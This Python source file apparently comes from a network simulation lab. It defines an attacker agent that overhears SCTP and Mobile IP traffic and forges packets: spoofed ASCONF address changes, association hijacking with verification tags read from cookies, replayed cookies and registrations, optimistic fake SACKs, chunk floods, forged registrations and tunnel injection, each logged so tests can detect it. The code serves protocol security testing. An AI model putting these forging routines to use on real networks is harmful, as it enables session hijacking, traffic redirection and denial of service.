"""An attacker: it overhears what passes its host, and sends packets that others never wrote.

It has no part in the kernel's stack (``roamlab/agents/raw_ip.py``): what it sends has whatever source address it likes, and the
addresses that it owns are not its kernel's. Every packet of an attack is an event ``attack.sent``, so that a verdict can look
for it in the capture.
"""

from __future__ import annotations

import os
import struct
from dataclasses import replace
from ipaddress import IPv4Address, ip_address
from typing import Any, Final

from roamlab.agents.agent import Agent, now_ns
from roamlab.agents.raw_ip import RawIp
from roamlab.agents.rewriter import parameter
from roamlab.protocols import ip
from roamlab.protocols.errors import DecodeError
from roamlab.protocols.forging import Overheard, Signing, tie_tags
from roamlab.protocols.ip import SCTP, UDP, Address, Datagram
from roamlab.protocols.mobileip.authentication import SecurityAssociation, sign
from roamlab.protocols.mobileip.extensions import MOBILE_HOME
from roamlab.protocols.mobileip.identification import timestamp
from roamlab.protocols.mobileip.registration import PORT, RegistrationRequest, RequestFlags
from roamlab.protocols.payload import Direction, Kind, Message
from roamlab.protocols.rewriting import OWN_IDS
from roamlab.protocols.sctp import packet
from roamlab.protocols.sctp.chunks import Abort, Heartbeat, RawChunk
from roamlab.protocols.sctp.endpoint import SctpEndpoint, State
from roamlab.protocols.sctp.parameters import HeartbeatInfo
from roamlab.protocols.transport import Udp

_IPIP, _HOPS = 4, 64
_DISCARD: Final = 9  # the port of the discard service
_UDP_HEADER: Final = struct.Struct("!HHHH")
_RETRY_NS: Final = 10_000_000
_REPORTED: Final = 0xFE  # a chunk type that nobody knows: to be skipped and reported (RFC 9260, 3.2)
_SPI: Final = 256  # that of every mobile node here, and easy to guess


class AttackerNode(Agent):
    """Knows an association from what it overhears (``do_overhear``) or is told (``do_learn``)."""

    def __init__(self, name: str, control: Any) -> None:
        super().__init__(name, control)
        self._known = Overheard()
        self._overhears = False
        self._told = False
        self._own: set[Address] = set()
        self._caller: SctpEndpoint | None = None
        self._fed = 0
        self._requests: dict[bool, tuple[Address, Address, bytes]] = {}
        self._ip = RawIp(self, self._saw)

    # -- commands ----------------------------------------------------------------------------------------------------

    def do_overhear(self) -> None:
        """Learn from all that passes. Reports ``attack.overheard`` with addresses and ports once."""
        self._overhears = True

    def do_learn(self, mobile: str, correspondent: str, sport: int, dport: int) -> None:
        """Be told addresses and ports, and guess the tag and the serial number."""
        tag, serial = struct.unpack("!II", os.urandom(8))
        self._known = Overheard(
            ip_address(mobile), ip_address(correspondent), sport, dport, tag=tag, serial=serial
        )

    def do_own(self, addresses: list[str]) -> None:
        """Answer what is sent to these addresses as an end of the association would."""
        self._own |= {ip_address(address) for address in addresses}

    def do_asconf(self, act: int, source: str, requests: list[dict[str, str]], signing: str) -> None:
        """Send an ASCONF in the mobile node's name from ``source``."""
        wanted = [parameter(r["verb"], r["address"], OWN_IDS + n) for n, r in enumerate(requests)]
        self._attack(act, ip_address(source), self._known.asconf(wanted, Signing(signing)), forged=True)

    def do_restart(self, act: int, source: str, addresses: list[str]) -> None:
        """Send an INIT from ``source`` and the mobile node's port that lists ``addresses``."""
        self._call(act, source, addresses)

    def do_camp(self, act: int, source: str, addresses: list[str]) -> None:
        """Set up an association from ``source`` and the mobile node's port; ASCONFs of ``do_claim`` are its own."""
        self._own.add(ip_address(source))
        self._call(act, source, addresses)

    def do_claim(self, act: int, source: str, requests: list[dict[str, str]]) -> None:
        """Send an ASCONF in the association that ``do_camp`` set up."""
        assert self._caller
        wanted = [parameter(r["verb"], r["address"], OWN_IDS + n) for n, r in enumerate(requests)]
        self._attack(act, ip_address(source), self._caller.packet(self._caller.asconf(wanted)))

    def do_subscribe(self, act: int, source: str, session: int) -> None:
        """Ask the correspondent, in the association that ``do_camp`` set up, for a session's stream, as soon as it is up."""
        assert self._caller
        if self._caller.state is not State.ESTABLISHED:
            self.at(now_ns() + _RETRY_NS, lambda: self.do_subscribe(act, source, session))
            return
        hello = Message(Kind.HELLO, Direction.UP, session, 0, now_ns()).encode()
        self._attack(act, ip_address(source), self._caller.packet(self._caller.data(hello)))

    def do_feed(self, act: int, source: str, every_ns: int, most: int, end_ns: int, due_ns: int = 0) -> None:
        """Acknowledge, from ``source``, DATA that went elsewhere: one chunk, then two, up to ``most`` each time.

        Whoever acknowledges more than was sent is found out and the association ends with ABORT; a sender's congestion
        window opens by one packet for each such SACK at least as fast as this.
        """
        assert self._caller
        due_ns = due_ns or now_ns()
        self._fed = min(self._fed + 1, most)
        self._attack(act, ip_address(source), self._caller.pretend(self._fed))
        following_ns = due_ns + every_ns
        if following_ns < end_ns:
            self.at(following_ns, lambda: self.do_feed(act, source, every_ns, most, end_ns, following_ns))

    def do_probe(self, act: int, source: str) -> None:
        """Send an INIT from ``source`` and the mobile node's port, and keep the cookie that comes."""
        self._own.add(ip_address(source))
        self._call(act, source, [source], echoes=False)

    def do_echo(self, act: int, source: str, sport_shift: int = 0, dport_shift: int = 0) -> None:
        """Send the cookie of its own INIT (once more), where wanted with other ports than the INIT had."""
        assert self._caller
        echo = packet.decode(self._caller.cookie_echo())
        moved = replace(echo, sport=echo.sport + sport_shift, dport=echo.dport + dport_shift)
        self._attack(act, ip_address(source), moved.encode())

    def do_quit(self, act: int, source: str) -> None:
        """End its own association with ABORT, as a victim's stack would that knows nothing of it."""
        assert self._caller
        self._attack(act, ip_address(source), self._caller.packet(Abort(())))

    def do_hijack(self, act: int, source: str, requests: list[dict[str, str]]) -> None:
        """Send an ASCONF in the mobile node's association with each tag that the cookie of ``do_probe`` tells."""
        assert self._caller
        wanted = [parameter(r["verb"], r["address"], OWN_IDS + n) for n, r in enumerate(requests)]
        for tag in tie_tags(self._caller.cookie):
            forged = replace(self._known, tag=tag).asconf(wanted, Signing.NONE)
            self._attack(act, ip_address(source), forged, forged=True)

    def do_flood(self, act: int, source: str, chunks: str, count: int) -> None:
        """Send one packet with many chunks in its own association, each of which calls for a chunk in return."""
        assert self._caller
        chunk = Heartbeat((HeartbeatInfo(b""),)) if chunks == "heartbeats" else RawChunk(_REPORTED)
        self._attack(act, ip_address(source), self._caller.packet(*[chunk] * count))

    def do_cookie(self, act: int, source: str) -> None:
        """Send the overheard COOKIE-ECHO once more, from ``source``."""
        self._attack(act, ip_address(source), self._known.cookie_echo)

    def do_register(
        self,
        act: int,
        source: str,
        home_address: str,
        home_agent: str,
        care_of: str,
        lifetime: int,
        authenticated: bool,
    ) -> None:
        """Send a Registration Request in the mobile node's name, signed with a made-up key or not at all."""
        request = RegistrationRequest(
            RequestFlags.D,
            lifetime,
            IPv4Address(home_address),
            IPv4Address(home_agent),
            IPv4Address(care_of),
            timestamp(now_ns()),
        )
        if authenticated:
            request = sign(request, MOBILE_HOME, SecurityAssociation(_SPI, os.urandom(16)))
        self._register(act, IPv4Address(source), IPv4Address(home_agent), request.encode())

    def do_tunnel(self, act: int, outer: str, home_agent: str, inner: str, destination: str) -> None:
        """Send the home agent a datagram from ``inner`` as a reverse tunnel from ``outer`` would bring it."""
        data = os.urandom(32)
        self.emit(
            "attack.sent", act=act, source=inner, data=data.hex(), forged=True, udp=True, tunnelled=True
        )
        carried = Datagram(IPv4Address(inner), IPv4Address(destination), UDP, _HOPS, _udp(_DISCARD, data))
        self._ip.put(IPv4Address(outer), IPv4Address(home_agent), _IPIP, ip.encode(carried))

    def do_again(self, act: int, deregistration: bool) -> None:
        """Send the last overheard registration (or deregistration) once more, from the address that it came from."""
        if (overheard := self._requests.get(deregistration)) is None:
            self.emit("attack.unsent", reason="no such registration was overheard")
        else:
            self._register(act, *overheard)

    # -- what passes -------------------------------------------------------------------------------------------------

    def _saw(self, datagram: Datagram, outgoing: bool) -> None:
        source, destination = datagram.source, datagram.destination
        if self._overhears and datagram.protocol == UDP:
            self._heard(source, destination, datagram.payload)
        if datagram.protocol != SCTP:
            return
        if self._overhears:
            self._learn(source, destination, datagram.payload)
        if destination in self._own and not outgoing:
            heard = datagram.payload
            reply = self._caller.receive(heard) if self._caller else self._known.answer(heard)
            if reply is not None:
                self._ip.put(destination, source, SCTP, reply)

    def _learn(self, source: Address, destination: Address, data: bytes) -> None:
        known = self._known
        known.see(source, destination, data)
        if known.tag and not self._told:
            self._told = True
            self.emit(
                "attack.overheard",
                mobile=str(known.mobile),
                correspondent=str(known.correspondent),
                sport=known.sport,
                dport=known.dport,
            )

    def _heard(self, source: Address, destination: Address, data: bytes) -> None:
        try:
            udp = Udp.decode(data)
            request = RegistrationRequest.decode(udp.payload)
        except DecodeError:
            return
        if udp.dport == PORT:
            self._requests[request.deregisters] = source, destination, udp.payload

    # -- what is sent ------------------------------------------------------------------------------------------------

    def _call(self, act: int, source: str, addresses: list[str], *, echoes: bool = True) -> None:
        tag, tsn = struct.unpack("!II", os.urandom(8))
        listed = tuple(ip_address(address) for address in addresses)
        ports = self._known.sport, self._known.dport
        self._caller = SctpEndpoint(*ports, tag, tsn, os.urandom(32), listed, echoes=echoes)
        self._attack(act, ip_address(source), self._caller.init())

    def _attack(self, act: int, source: Address, data: bytes, *, forged: bool = False) -> None:
        destination = self._known.correspondent
        if destination is None:
            self.emit("attack.unsent", reason="no association was overheard")
            return
        self.emit("attack.sent", act=act, source=str(source), data=data.hex(), forged=forged, udp=False)
        self._ip.put(source, destination, SCTP, data)

    def _register(self, act: int, source: Address, destination: Address, data: bytes) -> None:
        self.emit("attack.sent", act=act, source=str(source), data=data.hex(), forged=True, udp=True)
        self._ip.put(source, destination, UDP, _udp(PORT, data))


def _udp(port: int, data: bytes) -> bytes:
    """From the port to the same; IPv4 lets a checksum be left out."""
    return _UDP_HEADER.pack(port, port, _UDP_HEADER.size + len(data), 0) + data
